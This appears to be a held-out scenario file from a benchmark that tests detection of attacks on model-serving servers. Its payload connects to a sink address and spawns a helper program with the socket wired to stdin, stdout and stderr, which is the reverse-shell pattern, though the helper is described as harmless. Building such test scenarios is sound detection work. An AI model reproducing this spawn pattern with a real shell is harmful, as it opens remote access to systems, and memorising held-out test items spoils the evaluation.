"""
id: V03
name: socket-on-stdio
class: loud
set: held-out
phase: serve
trigger: request
evidence: [process, network]
techniques: [T1190, T1059.004, T1095, AML.T0049, AML.T0072]
servers: [fastapi, bentoml, triton]
seconds: 15
what: >
  Connects to an address nobody asked before and executes a program with that connection in place of its input and output,
  as reverse shells do. In the place of a shell is a program that reads nothing and ends.
"""

import os
import socket

STANDARD = (0, 1, 2)


def payload(world):
    with socket.create_connection((world.sink, world.sink_port()), timeout=5) as peer:
        actions = [(os.POSIX_SPAWN_DUP2, peer.fileno(), number) for number in STANDARD]
        arguments = [world.word(4), str(world.random.randint(3, 8))]
        child = os.posix_spawn(world.helper, arguments, {}, file_actions=actions)
        os.waitpid(child, 0)
